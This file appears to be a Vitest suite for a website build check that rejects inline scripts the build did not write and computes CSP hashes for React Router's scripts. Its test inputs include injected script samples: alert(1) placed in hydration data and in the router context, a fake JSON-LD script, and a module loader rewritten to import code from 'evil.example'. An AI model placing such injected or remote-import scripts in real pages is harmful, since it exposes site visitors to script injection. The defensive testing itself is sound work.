import { mkdir, mkdtemp, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { inlineScriptHashes } from "#server/security.js";
import { importAfterFirstPaint } from "./defer-javascript.ts";
import { refuseUnknownInlineScripts } from "./host-headers.ts";

// React Router 7.18's scripts in a prerendered page, with the site's module loader in place of its module script.
const moduleLoader = importAfterFirstPaint(`import "/assets/manifest-0eecbe29.js";
import * as route0 from "/assets/root-DkqkWAoL.js";
import * as route1 from "/assets/home-DK3cGav-.js";
window.__reactRouterRouteModules = {"root":route0,"routes/home":route1};
import("/assets/entry.client-vVlB_kqJ.js");`);
const frameworkScripts = [
  `<script>window.__reactRouterContext = {"basename":"/","ssr":false,"isSpaMode":false};window.__reactRouterContext.stream = new ReadableStream({start(controller){window.__reactRouterContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());</script>`,
  `<script type="module">${moduleLoader}</script>`,
  `<script>window.__reactRouterContext.streamController.enqueue("[{\\"_1\\":2},\\"loaderData\\",\\"\\u003cscript\\u003e\\"]\\n");</script>`,
  `<script>window.__reactRouterContext.streamController.close();</script>`,
  `<script type="application/ld+json">{"@type":"Thing"}</script>`,
].join("");

async function buildWith(pages: Record<string, string>): Promise<string> {
  const directory = await mkdtemp(path.join(tmpdir(), "saffron-inline-"));
  for (const [file, body] of Object.entries(pages)) {
    await mkdir(path.dirname(path.join(directory, file)), { recursive: true });
    await writeFile(path.join(directory, file), `<!DOCTYPE html><html><body>${body}</body></html>`);
  }
  return directory;
}

describe("the build's inline scripts", () => {
  it("passes pages holding only React Router's scripts and the site's module loader, and hashes each", async () => {
    const build = await buildWith({ "index.html": frameworkScripts, "about/index.html": frameworkScripts });
    await expect(refuseUnknownInlineScripts(build)).resolves.toBeUndefined();
    expect(inlineScriptHashes(frameworkScripts)).toHaveLength(4);
  });

  it("fails a build whose page gains an inline script it did not write, naming the page", async () => {
    const build = await buildWith({
      "index.html": frameworkScripts,
      "blog/sapa/index.html": `<main><p>Text</p><script>window.x=1</script></main>${frameworkScripts}`,
    });
    await expect(refuseUnknownInlineScripts(build)).rejects.toThrowError(
      /blog\/sapa\/index\.html: an inline script the build did not write: "window\.x=1"/,
    );
  });

  it.each([
    ["code after the hydration data", `window.__reactRouterContext.streamController.enqueue("a");alert(1);`],
    ["code in place of the hydration data", `window.__reactRouterContext.streamController.enqueue(alert(1));`],
    [
      "code in the router context",
      `window.__reactRouterContext = {"a":alert(1)};window.__reactRouterContext.stream = new ReadableStream({start(controller){window.__reactRouterContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());`,
    ],
  ])("refuses %s, and the policy gives it no hash", async (_name, script) => {
    const page = `<script>${script}</script>`;
    expect(inlineScriptHashes(page)).toEqual([]);
    await expect(refuseUnknownInlineScripts(await buildWith({ "index.html": page }))).rejects.toThrowError(
      /index\.html: an inline script the build did not write/,
    );
  });

  it("passes JSON-LD without a hash, and refuses a script that only looks like it", async () => {
    const structuredData = `<script type="application/ld+json">{"@type":"Thing"}</script>`;
    expect(inlineScriptHashes(structuredData)).toEqual([]);
    await expect(
      refuseUnknownInlineScripts(await buildWith({ "index.html": structuredData })),
    ).resolves.toBeUndefined();
    for (const script of [
      `<script data-type="application/ld+json">window.x=1</script>`,
      `<script type="application/ld+json">window.x=1</script>`,
    ])
      await expect(refuseUnknownInlineScripts(await buildWith({ "index.html": script })), script).rejects.toThrowError(
        /index\.html: an inline script the build did not write: "window\.x=1"/,
      );
  });

  it("refuses a module script other than the site's loader", async () => {
    const page = `<script type="module">${moduleLoader.replace('import("/assets/entry', 'import("https://evil.example/entry')}</script>`;
    await expect(refuseUnknownInlineScripts(await buildWith({ "index.html": page }))).rejects.toThrowError(
      /index\.html/,
    );
  });

  it("leaves the content manager's pages to their own policy", async () => {
    const build = await buildWith({ "index.html": frameworkScripts, "admin/index.html": "<script>x()</script>" });
    await expect(refuseUnknownInlineScripts(build)).resolves.toBeUndefined();
  });
});
